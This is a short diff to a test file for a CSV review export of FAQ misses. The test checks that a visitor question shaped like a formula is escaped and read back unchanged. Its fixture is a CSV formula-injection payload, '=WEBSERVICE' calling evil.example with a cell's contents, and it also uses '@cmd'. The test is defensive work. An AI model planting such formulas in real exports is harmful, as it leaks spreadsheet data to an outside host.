@@ -31,7 +31,7 @@ describe('the review file of faq:misses', () => {
   it("keeps a visitor's question that looks like a formula as text, and reads it back as it was asked", () => {
     const question = '=WEBSERVICE("https://evil.example/?"&A1)';
     const group = { question, locale: 'en', count: 3, variants: ['@cmd'] };
-    const text = reviewCsv([{ group, action: 'new entry', entry: '', answer: null, nearest: [] }]);
+    const text = reviewCsv([{ group, action: 'new entry', entry: '', answer: null, nearest: [] }], () => undefined);
     expect(text).toContain(`"'=WEBSERVICE(""https://evil.example/?""&A1)"`);
     expect(text).toContain("'@cmd");
     const marked = parseCsv(text).map((row, index) => (index === 0 ? row : ['yes', ...row.slice(1)]));
